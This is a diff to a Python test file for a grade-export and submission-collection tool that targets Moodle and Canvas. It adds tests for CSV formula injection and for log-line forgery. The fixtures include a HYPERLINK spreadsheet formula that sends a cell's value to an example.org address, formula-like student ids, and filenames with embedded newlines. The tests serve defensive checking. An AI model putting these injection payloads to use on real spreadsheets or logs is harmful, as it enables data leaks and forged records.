@@ -1,5 +1,6 @@
 """Work from learning platforms, and grades for them: real nbgrader, and stand-ins that send and take."""
 
+import csv
 import io
 import tarfile
 import zipfile
@@ -31,15 +32,19 @@ def graded(tmp_path_factory: pytest.TempPathFactory) -> ScratchCourse:
             gradebook.add_student(student, **about)
             if share is None:
                 continue
-            submission = gradebook.add_submission(NAME, student)
-            for notebook in submission.notebooks:
-                for grade in notebook.grades:
-                    grade.auto_score = share * grade.max_score
-                    grade.needs_manual_grade = student == "0012345"
-                notebook.late_submission_penalty = 0.25 if student == "ada" else None
+            give_points(gradebook, student, share)
         gradebook.db.commit()
     (course.folder / "submitted" / "waiting" / NAME).mkdir(parents=True)
     return course
+
+
+def give_points(gradebook: Gradebook, student: str, share: float) -> None:
+    """The same part of the points in each test."""
+    for notebook in gradebook.add_submission(NAME, student).notebooks:
+        for grade in notebook.grades:
+            grade.auto_score = share * grade.max_score
+            grade.needs_manual_grade = student == "0012345"
+        notebook.late_submission_penalty = 0.25 if student == "ada" else None
 
 
 def export(course: ScratchCourse, exporter: str, *more: str, **ends: int) -> str:
@@ -99,6 +104,37 @@ def test_canvas_takes_back_its_file_with_grades(graded: ScratchCourse, delimiter
     assert f"{NAME}: double" in [name for name, _ in course.assignments.values()]
     assert "2 in canvas.csv have no points and are left out: absent, guest" in said
     assert "1 have points and are not in canvas.csv: o'brien" in said
+
+
+FORMULA = '=HYPERLINK("https://example.org/?"&A1, "Ada")'
+
+
+def test_no_spreadsheet_takes_a_field_for_a_formula(tmp_path: Path) -> None:
+    """The files say the same as before to the platforms, which read no formulas."""
+    course = a_class(tmp_path / "class", students=())
+    with Gradebook(course.db_url) as gradebook:
+        for student in ("ada", "eve", "=1+2", "-x"):
+            about = {"first_name": FORMULA, "last_name": " +Last", "email": f"@{student}@example.org"}
+            gradebook.add_student(student, **about)
+            give_points(gradebook, student, 1.0)
+        gradebook.db.commit()
+    said = export(course, "Moodle")
+    text = (course.folder / "moodle.csv").read_text(encoding="utf-8")
+    assert platforms.imported_by_moodle({"ada", "eve"}, {NAME: MOST}, text).keys() == {"ada", "eve"}
+    assert "2 have ids that a spreadsheet would take for a formula, and are left out" in said
+    assert "-x" in said and "=1+2" in said
+    people = {
+        11: {"name": FORMULA, "login_id": "ada"},
+        12: {"name": "-2+3", "login_id": "+eve", "sis_user_id": "eve"},
+    }
+    canvas = platforms.CanvasCourse(people, {3: (NAME, MOST)}, {})
+    (course.folder / "canvas.csv").write_text(platforms.exported_by_canvas(canvas), encoding="utf-8")
+    export(course, "Canvas")
+    upload = (course.folder / "upload.csv").read_text(encoding="utf-8")
+    platforms.imported_by_canvas(canvas, upload)
+    assert canvas.scores == {(3, 11): MOST - 0.25, (3, 12): MOST}
+    for row in (*csv.reader(io.StringIO(text)), *csv.reader(io.StringIO(upload))):
+        assert not [field for field in row if field.strip()[:1] in {*"=+-@"}]
 
 
 @pytest.fixture
@@ -274,6 +310,17 @@ def test_an_archive_that_cannot_be_unpacked_stops_nobody_else(course: ScratchCou
     assert said.count("it would take more than 200 MB") == 2
     assert "'a' is a link or a device" in said and "it has more than 1,000 files" in said
     assert not list(course.folder.rglob("zeros"))
+
+
+def test_names_in_archives_forge_no_lines_of_the_log(course: ScratchCourse) -> None:
+    names = ("a\nforged.py", "in\nforged/b.py", "c\nforged.zip", "helpers.py")
+    uploads = [("Ada Lovelace", "work.zip", zipped(*((name, b"x") for name in names)))]
+    uploads += [("Ada Lovelace", "d\nforged.py", b"x"), ("O'Brien Flann", "e\nforged.zip", b"no zip file")]
+    platforms.archive_of_moodle(archive(course), uploads)
+    said = collect(course, "MoodleArchive")
+    assert collected(course) == {"ada": {"helpers.py": b"x"}}
+    assert not [line for line in said.splitlines() if line.startswith("forged")]
+    assert said.count("was left out: ") == 5 and r"a\nforged.py" in said
 
 
 def test_a_download_that_broke_off_is_said(course: ScratchCourse) -> None:
